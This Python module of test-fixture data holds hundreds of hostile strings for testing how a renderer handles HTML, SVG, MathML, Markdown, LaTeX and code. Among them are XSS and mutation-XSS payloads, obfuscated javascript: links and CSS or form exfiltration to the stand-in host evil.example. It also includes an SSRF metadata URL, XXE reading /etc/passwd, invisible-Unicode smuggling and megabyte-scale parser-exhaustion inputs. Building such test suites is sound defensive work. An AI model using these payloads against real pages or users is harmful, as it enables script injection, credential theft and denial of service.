"""Hostile texts, written for the page: each tries to run `hit()`, to ask `evil.example` for something, or to hide.

Data only. EVERYWHERE are short and go into every place that shows text; LARGE are made by arithmetic.
Path: EVERYWHERE, LARGE
"""

from __future__ import annotations

E = "https://evil.example"
J = "javascript:hit()"

TAGS = (
    """
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<script src=https://evil.example/a.js></script>
<script src="//evil.example/b.js" type=module></script>
<script
>hit()</script
>
<scr<script>ipt>hit()</scr</script>ipt>
<script>/*<!--*/hit()//--></script>
<script type="text/template">hit()</script>
<img src=x onerror=hit()>
<img src=x onerror="hit()" alt="words inside">
<img/src='x'/onerror=hit()>
<img src=`x` onerror=`hit()`>
<img src="x" srcset="https://evil.example/c.png 2x">
<IMG SRC="jav&#x09;ascript:hit()">
<IMG """
    + '"""'
    + """><SCRIPT>hit()</SCRIPT>">
<img src=https://evil.example/d.png>
<image src=https://evil.example/e.png onerror=hit()>
<input autofocus onfocus=hit()>
<input type=image src=https://evil.example/f.png>
<select autofocus onfocus=hit()><option>pick</select>
<textarea autofocus onfocus=hit()>inside</textarea>
<keygen autofocus onfocus=hit()>
<video src=x onerror=hit()></video>
<video poster=https://evil.example/g.png><source onerror=hit() src=x></video>
<audio src=https://evil.example/h.mp3 autoplay onloadstart=hit()></audio>
<body onload=hit()>
<body background=https://evil.example/i.png>
<html manifest=https://evil.example/j>
<frameset onload=hit()><frame src=javascript:hit()></frameset>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src=https://evil.example/k></iframe>
<object data=https://evil.example/l.swf></object>
<object data="data:text/html,<script>hit()</script>"></object>
<embed src=https://evil.example/m>
<embed src=javascript:hit()>
<applet code=Evil archive=https://evil.example/n.jar></applet>
<link rel=stylesheet href=https://evil.example/o.css>
<link rel=import href=https://evil.example/p.html>
<link rel=prefetch href=https://evil.example/q>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example/r">
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=referrer content=unsafe-url>
<base href=https://evil.example/>
<base target=_top>
<style>@import url(https://evil.example/s.css);</style>
<style>*{background:url(https://evil.example/t.png)}</style>
<style>input[value^=a]{background:url(https://evil.example/u?a)}</style>
<style>body{display:none}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/v.woff)}</style>
<div style="position:fixed;inset:0;background:red;z-index:99999">over the page</div>
<div style="background:url(https://evil.example/w.png)">text</div>
<div style="width:expression(hit())">old</div>
<p style="font-size:9999px">huge</p>
<font size=99 color=white>white</font>
<marquee onstart=hit()>moving</marquee>
<marquee loop=1 width=0 onfinish=hit()>end</marquee>
<blink>blink</blink>
<details open ontoggle=hit()><summary>more</summary>inside</details>
<dialog open onclose=hit()>a dialog</dialog>
<form action=https://evil.example/form><input name=password type=password><button>Log in</button></form>
<form><button formaction=javascript:hit()>press</button></form>
<button onclick=hit()>press me</button>
<button popovertarget=x>pop</button><div popover id=x onbeforetoggle=hit()>popped</div>
<isindex type=image src=1 onerror=hit()>
<a href=javascript:hit()>a link</a>
<a href="jav&Tab;ascript:hit()">a link</a>
<a href="java&NewLine;script:hit()">a link</a>
<a href="&#106;avascript:hit()">a link</a>
<a href=data:text/html,<script>hit()</script>>a link</a>
<a href=https://evil.example/x ping=https://evil.example/y>ping</a>
<a onmouseover=hit()>hover</a>
<a id=chats name=me>clobber</a>
<area href=javascript:hit() shape=default>
<map name=x><area href=https://evil.example/z></map><img usemap=#x>
<table background=https://evil.example/aa.png><td background=javascript:hit()>cell</table>
<bgsound src=javascript:hit()>
<xml src=https://evil.example/ab.xml id=x></xml>
<xss style=behavior:url(https://evil.example/x.htc)>
<template><script>hit()</script></template>
<slot name=x onslotchange=hit()>slot</slot>
<portal src=https://evil.example/ac></portal>
<fencedframe src=https://evil.example/ad></fencedframe>
<noembed><script>hit()</script></noembed>
<plaintext>everything after is text
<xmp><script>hit()</script></xmp>
<listing>&lt;script>hit()</script></listing>
<x contenteditable onblur=hit()>lose focus</x>
<x tabindex=1 onfocus=hit() autofocus>custom</x>
<x onclick=hit() accesskey=x>custom</x>
<custom-element is=x onload=hit()>word</custom-element>
<!--><script>hit()</script-->
<!-- a comment --> after the comment
<!--[if IE]><script>hit()</script><![endif]-->
<?xml-stylesheet href="javascript:hit()"?>
<?php echo hit() ?> after
<!DOCTYPE html><script>hit()</script>
<![CDATA[<script>hit()</script>]]>
<%00script>hit()</script>
<//script><script>hit()//
<b>bold</b> <i>italic</i> <u>under</u> <s>struck</s>
<b onmouseover=hit()>bold</b>
<div><p>unclosed <span>words
</div></p></span></article></main></body></html>escaped
"><script>hit()</script>
'><img src=x onerror=hit()>
`><img src=x onerror=hit()>
--><script>hit()</script>
]]><script>hit()</script>
</textarea><script>hit()</script>
</title><script>hit()</script>
</style><script>hit()</script>
</script><script>hit()</script>
"""
)

SVG_MATHML = """
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=https://evil.example/sa.js /></svg>
<svg><script xlink:href=data:,hit() /></svg>
<svg><a xlink:href=javascript:hit()><text x=9 y=9>press</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:hit() begin=0s>
<svg><animate xlink:href=#x attributeName=href values=javascript:hit() /><a id=x><rect width=99 height=99 /></a>
<svg><image href=https://evil.example/sb.png />
<svg><use href=https://evil.example/sc.svg#x />
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x" />
<svg><foreignObject><iframe src=javascript:hit()></iframe></foreignObject></svg>
<svg><foreignObject><body onload=hit()></foreignObject></svg>
<svg><style>@import 'https://evil.example/sd.css'</style></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg><desc><img src=x onerror=hit()></desc></svg>
<svg><title><img src=x onerror=hit()></title></svg>
<svg><feImage href=https://evil.example/se.png /></svg>
<svg><filter id=f><feImage xlink:href=https://evil.example/sf.svg /></filter></svg>
<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>hit()</handler></svg>
<svg><discard onbegin=hit()>
<svg id=app class=chat><text>clobber</text></svg>
<svg width=9999 height=9999 style=position:fixed;top:0><rect width=100% height=100% /></svg>
<math><mtext><script>hit()</script></mtext></math>
<math><maction actiontype=statusline xlink:href=javascript:hit()>press</maction></math>
<math href=javascript:hit()>CLICK</math>
<math><mi xlink:href=javascript:hit()>x</mi></math>
<math><annotation-xml encoding=text/html><script>hit()</script></annotation-xml></math>
<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>
<math><mglyph src=https://evil.example/sg.png /></math>
<math><annotation-xml encoding=application/xhtml+xml><iframe src=javascript:hit() /></annotation-xml></math>
<math><mstyle background=url(https://evil.example/sh)>x</mstyle></math>
<math><style><img src=x onerror=hit()></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=hit()>">
<svg></p><style><a id="</style><img src=1 onerror=hit()>">
<noscript><p title="</noscript><img src=x onerror=hit()>">
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=hit()>
<listing><img title="</listing><img src onerror=hit()>">
<xmp><p title="</xmp><svg/onload=hit()>">
<table><td><svg><foreignObject><table><td></svg><img src=x onerror=hit()>
<p><svg><mtext><textarea><a title="</textarea><img src=x onerror=hit()>">
<div><svg><p><title></svg><img src=x onerror=hit()></title>
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=hit()//"></svg>
<a href="x"><table><a href="javascript:hit()">nested</a></table></a>
<math><mi><table><mi></math><img src=x onerror=hit()>
<iframe><textarea></iframe><img src="</textarea><img src=x onerror=hit()>">
&lt;script&gt;hit()&lt;/script&gt;
&#60;img src=x onerror=hit()&#62;
&#x3C;svg onload=hit()&#x3E;
%3Cscript%3Ehit()%3C/script%3E
\\u003cscript\\u003ehit()\\u003c/script\\u003e
&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
+ADw-script+AD4-hit()+ADw-/script+AD4-
"""

LINKS = f"""
[a link]({J})
[a link](JaVaScRiPt:hit())
[a link](java\tscript:hit())
[a link]( javascript:hit() )
[a link](<javascript:hit()>)
[a link](javascript&colon;hit())
[a link](javascript&#58;hit())
[a link](javascript&#x3a;hit())
[a link](&#106;avascript:hit())
[a link](\\javascript:hit())
[a link](\x01javascript:hit())
[a link](\u200bjavascript:hit())
[a link](vbscript:hit())
[a link](data:text/html,<script>hit()</script>)
[a link](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)
[a link](blob:https://evil.example/1)
[a link](file:///etc/passwd)
[a link](ftp://evil.example/1)
[a link](ws://evil.example/1)
[a link](intent://evil.example/#Intent;scheme=http;end)
[a link](mailto:a@evil.example?body=secret)
[a link](tel:+123456)
[a link](sms:+123456)
[a link](view-source:https://evil.example)
[a link](chrome://settings)
[a link](about:blank)
[a link](//evil.example/2)
[a link](/console/logout)
[a link](#/keys)
[a link](?q=1)
[a link](\\\\evil.example\\share)
[a link](https:evil.example)
[a link](https:/\\evil.example/3)
[a link]({E}/4?q=secret)
[a link]({E}/4#token=secret)
[a link]({E}/{"p" * 200})
[a link](https://bank.example@evil.example/5)
[a link](https://bank.example:443@evil.example/5)
[https://bank.example](https://evil.example/6)
[a link](https://xn--80ak6aa92e.com/)
[a link](https://аррӏе.com/)
[a link](https://evil\u202e.example/7)
[a link](https://evil.example/\u202egnp.exe)
[a link](https://evil.example/\u200b8 "a title \u202e turned")
[a link](https://[::1]:8080/9)
[a link](http://127.0.0.1:1/10)
[a link](http://169.254.169.254/latest/meta-data/)
[a link](http://[::ffff:a9fe:a9fe]/)
[a link](https://evil.example/11 "onmouseover=hit()")
[a link](https://evil.example/12" onmouseover="hit())
[a link](https://evil.example/13' style='position:fixed)
[![image in a link](https://evil.example/14.png)](https://evil.example/15)
[a [nested](https://evil.example/16) link]({J})
[x]: {J}
[x]: {E}/17 "a definition"
[x][y] and [y]: {J}
<{J}>
<{E}/18?q=secret>
<data:text/html,hit()>
{E}/19?q=secret
www.evil.example/20?q=secret
http://evil.example/21"onmouseover="hit()
https://evil.example/22<script>hit()</script>
user@evil.example
![an image]({E}/23.png)
![an image]({E}/24.png?q=secret "a title")
![an image](http://evil.example/25.gif)
![an image](//evil.example/26.png)
![an image](data:image/svg+xml,<svg onload=hit()>)
![an image](data:image/png;base64,iVBORw0KGgo=)
![an image]({J})
![an image](x" onerror="hit())
![" onerror="hit()](x)
![an image][z] and [z]: {E}/27.png
![]({E}/28.png)
![![nested]({E}/29.png)]({E}/30.png)
![an image](<{E}/31.png> 'title')
![an image](blob:x)
- ![in a list]({E}/32.png)
> ![in a quote]({E}/33.png)
| ![in a table]({E}/34.png) |\\n|---|\\n| [x]({J}) |
# ![in a heading]({E}/35.png)
**![in bold]({E}/36.png)**
"""

MATH = """
$\\href{javascript:hit()}{x}$
$\\href{https://evil.example/m1}{x}$
$\\url{javascript:hit()}$
$\\includegraphics{https://evil.example/m2.png}$
$$\\includegraphics[width=900em,height=900em,alt=words]{https://evil.example/m3.png}$$
$\\htmlClass{chat}{x}$
$\\htmlId{app}{x}$
$\\htmlStyle{position:fixed;inset:0;background:red}{x}$
$\\htmlData{a=b}{x}$
$\\htmlData{a="b" onclick=hit()}{x}$
$\\text{<img src=x onerror=hit()>}$
$\\unicode{<img src=x onerror=hit()>}$
$<script>hit()</script>$
$\\color{red;background:url(https://evil.example/m4)}{x}$
$\\color{#fff}{white}$ and $\\textcolor{white}{hidden words}$
$\\colorbox{url(https://evil.example/m5)}{x}$
$\\fcolorbox{red}{blue}{boxed}$
$\\rule{9999em}{9999em}$
$\\rule[-9999em]{9999em}{9999em}$
$\\kern-9999em over$
$\\hspace{-9999em} over$
$\\raisebox{9999em}{over}$
$\\llap{\\rule{500em}{500em}}$
$\\mathllap{over the left}$ $\\smash{\\rule{1em}{800em}}$
$\\Huge{\\Huge{\\Huge{\\Huge{big}}}}$
$\\tag{<img src=x onerror=hit()>}x$
$\\phantom{hidden words}$
$\\def\\a{\\a\\a}\\a$
$\\def\\a{x\\a}\\a$
$\\edef\\a{xx}\\edef\\a{\\a\\a}\\edef\\a{\\a\\a}\\edef\\a{\\a\\a}\\a$
$\\gdef\\text#1{\\href{javascript:hit()}{#1}}\\text{x}$ then $\\text{x}$
$\\newcommand{\\hit}{\\url{javascript:hit()}}\\hit$
$\\let\\hit=\\href \\hit{javascript:hit()}{x}$
$\\csname href\\endcsname{javascript:hit()}{x}$
$\\catcode`\\@=11$
$\\input{/etc/passwd}$
$\\write18{id}$
$\\verb|<script>hit()</script>|$
$\\char"3C script$
$\\begin{array}{@{\\href{javascript:hit()}{x}}c}x\\end{array}$
$\\begin{unknown}words\\end{unknown}$
$\\unknowncommand{words}$
$\\frac{1}$
$ {unclosed $ and more words
$$ unclosed display
\\( unclosed inline
\\[ unclosed display
\\[<img src=x onerror=hit()>\\]
$$<svg onload=hit()>$$
\\begin{equation} words \\end{equation}
$\\operatorname{<b>words</b>}$
$\\mathrm{\u202eturned}$
"""

CODE = """
```html\\n<script>hit()</script>\\n```\\nafter
```svg\\n<svg onload=hit()></svg>\\n```
```mermaid\\ngraph TD; A["<img src=x onerror=hit()>"] --> B\\nclick A href "javascript:hit()"\\n```
```mathml\\n<math href=javascript:hit()>x</math>\\n```
```latex\\n\\\\href{javascript:hit()}{x}\\n```
```"><img src=x onerror=hit()>\\nwords\\n```
```js onload=hit()\\nhit()\\n```
```\u202ejs\\nwords\\n```
```constructor\\nwords\\n```
```__proto__\\nwords\\n```
```toString\\nwords\\n```
```hasOwnProperty\\nwords\\n```
```language-html class=evil id=app\\nwords\\n```
~~~<script>hit()</script>\\nwords\\n~~~
```python\\nprint("unclosed words")
`<img src=x onerror=hit()>`
`` ` <script>hit()</script> ``
    <script>hit()</script>
```diff\\n+<img src=x onerror=hit()>\\n-words\\n```
```js\\nif (admin \u2066/*\u2069 && true) {\u200b}\\n```
```xml\\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>\\n```
```css\\nbody{background:url(https://evil.example/c1.png)}\\n```
```json\\n{"__proto__": {"hit": true}}\\n```
"""

SEEN = """
admin\u202etxt.exe
\u202eturned around\u202c and back
\u2066isolated\u2069 words
\u2067\u2067\u2067\u2067 words
\u200b\u200c\u200d\u200e\u200f words
\ufeffbom words
pass\u00adword soft
\u2060joined\u2063words
tag\U000e0068\U000e0069\U000e0064\U000e0065 smuggled
vs\ufe01\ufe02\ufe03 smuggled
\U000e0100\U000e0101 smuggled
\u3164hangul filler\u3164
\u115f\u1160 choseong
\u061carabic mark
\u2028line\u2029separators
\x1b[31mred\x1b[0m escape
\x07bell\x08back
null\x00inside
\x85next line
a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked
\u0416\u043d\u0430 cyrillic
\u05e9\u05dc\u05d5\u05dd \u202d\u05e2\u05d5\u05dc\u05dd hebrew
\u0645\u0631\u062d\u0628\u0627 arabic 123
\u4f60\u597d chinese words
\U0001f468\u200d\U0001f469\u200d\U0001f467 family
\u26a0\ufe0f warning sign
`rm\u200b -rf` in code
[words\u202e](https://evil.example/s1)
"""

CLOBBER = """
<a id=document><a id=document name=body>words</a>
<form id=app><input name=remove></form>
<img name=getElementById>
<form name=querySelector><input id=children></form>
<a id=location href=javascript:hit()>words</a>
<input id=show name=show>
<iframe name=self srcdoc=""></iframe>
<form id=test1></form><form id=test1 name=y><input name=attributes></form>
<object name=freehold data=x></object>
<a id=katex></a><a id=marked></a><a id=hljs></a> libraries
<div id=main class=composer role=alert aria-live=assertive>spoken</div>
# heading {#app .chat style=position:fixed}
[span]{.evil #app onclick=hit()}
::: warning {onclick=hit()}\\ninside\\n:::
<div markdown=1>**bold**</div>
{{constructor.constructor('hit()')()}}
${hit()}
#{hit()}
<%= hit() %>
{% raw %}{{ hit() }}{% endraw %}
[[wiki|link]] and {{template}}
@import url(https://evil.example/k1.css);
__proto__ constructor prototype hasOwnProperty
%s %x %n %p $1 $& $` $'
"""


def _lines(block: str) -> list[str]:
    return [line.replace("\\n", "\n") for line in block.strip("\n").split("\n")]


EVERYWHERE: list[str] = [
    *_lines(TAGS.replace("<script\n>hit()</script\n>", "<script\\n>hit()</script\\n>")),
    *_lines(SVG_MATHML),
    *_lines(LINKS),
    *MATH.strip("\n").split("\n"),
    *_lines(CODE),
    *_lines(SEEN),
    *_lines(CLOBBER),
]

N = 10_000
LARGE: dict[str, str] = {
    "a line of 1 MB": "x" * 1_000_000,
    "a line of 1 MB of words": "word " * 200_000,
    "a line of 1 MB of marks": "*a_`[" * 200_000,
    "1 MB of lines": "line of text\n" * 80_000,
    "1 MB of code": "```python\n" + 'x = "abc" # words\n' * 58_000 + "```",
    "1 MB of code in one line": "```js\n" + 'x="' * 333_333 + "\n```",
    "1 MB of one fence": "```" + "x" * 1_000_000,
    "1 MB of an image": f"![words](data:image/png;base64,{'A' * 1_000_000})",
    "1 MB of an address": f"[words](https://evil.example/{'a' * 1_000_000})",
    "1 MB of zero width": "a" + "\u200b" * 1_000_000 + "b",
    "1 MB of overrides": "a\u202e" * 333_333,
    "quotes in a line": ">" * N,
    "quotes with spaces": "> " * N,
    "quotes by lines": "\n".join(">" * (i + 1) for i in range(1000)),
    "quotes and lists": "> - " * N,
    "lists in a line": "- " * N,
    "numbers in a line": "1. " * N,
    "lists by lines": "\n".join("  " * i + "- a" for i in range(1000)),
    "items": "- a\n" * N,
    "dollars": "$$" * N,
    "dollars with spaces": "$$ " * N,
    "dollar lines": "$$\n" * N,
    "amounts": "$a " * N,
    "formulas": "$x_1^2$ " * 3000,
    "brackets": "[" * N,
    "images that open": "![[" * N,
    "links that open": "[a](" * N,
    "links in links": "[" * N + "a" + "](x)" * N,
    "stars": "*" * N,
    "fours of stars": "**** " * N,
    "emphasis that opens": "*a **b ***c " * N,
    "emphasis inside words": "a**b" * N,
    "underscores": "_a" * N,
    "backticks": "`" * N,
    "longer backticks": " ".join("`" * i for i in range(1, 400)),
    "tildes": "~~a " * N,
    "angles": "<" * N,
    "tags that open": "<a " * N,
    "attributes": "<a " + "b=c " * N,
    "comments that open": "<!-- " * N,
    "references": "&#1;" * N,
    "backslashes": "\\" * N,
    "math lines": "\\[\n" * N,
    "setext lines": "a\n-\n" * N,
    "a table of rows": "|a|b|\n|-|-|\n" + "|c|d|\n" * N,
    "a table of columns": "|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + "|b" * 5000 + "|",
    "headings": "# a\n" * N,
    "fences": "```\na\n```\n" * (N // 4),
    "addresses": "http://a.b " * N,
    "mails": "a@b.c " * N,
    "braces": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "roots": "$$" + "\\sqrt{" * 600 + "x" + "}" * 600 + "$$",
    "fractions": "$$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$$",
    "a macro of text": "$$\\def\\a{" + "x" * 380 + "}" + "\\a" * 50 + "$$",
    "macros of macros": "$$\\def\\a{xxxxxxxxxx}\\def\\b{"
    + "\\a" * 10
    + "}\\def\\c{"
    + "\\b" * 10
    + "}\\c\\c\\c$$",
    "combining": "a" + "\u0301" * N,
    "emoji": "\U0001f600" * N,
}
